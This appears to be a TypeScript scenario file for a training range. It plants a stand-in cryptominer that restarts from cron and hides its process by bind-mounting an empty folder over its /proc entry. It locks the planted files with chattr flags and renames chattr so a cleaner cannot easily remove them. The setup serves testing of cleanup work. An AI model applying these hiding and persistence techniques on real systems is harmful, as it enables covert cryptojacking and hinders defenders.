// A miner hidden by an empty folder mounted over its /proc entry: no preload, no module, and even a static `ps` is blind to it.
// Payload and schedule are locked, and the host's chattr has another name, so a cleaner must bring its own.
import { renameSync } from 'node:fs'
import { join } from 'node:path'
import type { RangeHost } from '../host.ts'
import { world } from '../net.ts'
import { standIn } from '../stand-ins/stand-ins.ts'
import { decoyFiles, decoyProcesses, plantDecoys } from './decoys.ts'
import { fakeWallet, untilMining } from './mining.ts'
import { put, putAside, putProgram } from './plant.ts'
import type { HostileFile, Scenario } from './scenario.ts'

const folder = '/usr/share/misc/.md'
const payload = `${folder}/kmpathd`
const starter = `${folder}/check`
const schedule = '/etc/cron.d/mdstat'

/** Starts the payload if it does not run (a second one ends at once), and mounts emptiness over its /proc entry. */
const starterText = `#!/bin/sh
${payload} -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x >/dev/null 2>&1 &
sleep 0.3
kill -0 $! 2>/dev/null && mount --bind ${folder}/none /proc/$!
`

const hostileFiles: readonly HostileFile[] = [
  { path: payload, remove: 'whole', flags: 'i' },
  { path: starter, remove: 'whole', flags: 'a' },
  { path: schedule, remove: 'whole', flags: 'i' },
  { path: '/usr/bin/chattr', remove: 'restored' },
  { path: '/usr/bin/tntrecht', remove: 'whole' },
]

export const overmount: Scenario = {
  name: 'overmount',
  about: 'a locked miner behind a mount over its /proc entry, revived by cron',
  plant: async (host) => {
    await plantDecoys(host)
    put(host, `${folder}/none/.keep`, '', { daysOld: 0 })
    putProgram(host, payload, standIn('labminer'), { flags: 'i', daysOld: 0 })
    put(host, starter, starterText, { mode: 0o755, flags: 'a', daysOld: 0 })
    put(host, schedule, `* * * * * root ${starter} >/dev/null 2>&1\n`, { flags: 'i', daysOld: 0 })
    putAside(host, '/usr/bin/chattr')
    renameSync(join(host.dir, 'usr/bin/chattr'), join(host.dir, 'usr/bin/tntrecht'))
    await host.startIn('cron.service', [starter])
    await untilMining(host, overmount)
    await untilMounted(host)
  },
  hostileFiles,
  dormantFiles: [],
  attackerFolders: [folder],
  hostileProcesses: [{ contains: payload }],
  decoyFiles,
  decoyProcesses,
  revivePeriod: 60,
  expectedUndoFiles: hostileFiles.map(({ path }) => path),
}

async function untilMounted(host: RangeHost): Promise<void> {
  await host.sh(
    'i=0; until grep -q " /proc/[0-9]* " /proc/self/mountinfo; do i=$((i + 1)); [ $i -lt 100 ]; sleep 0.05; done',
  )
}
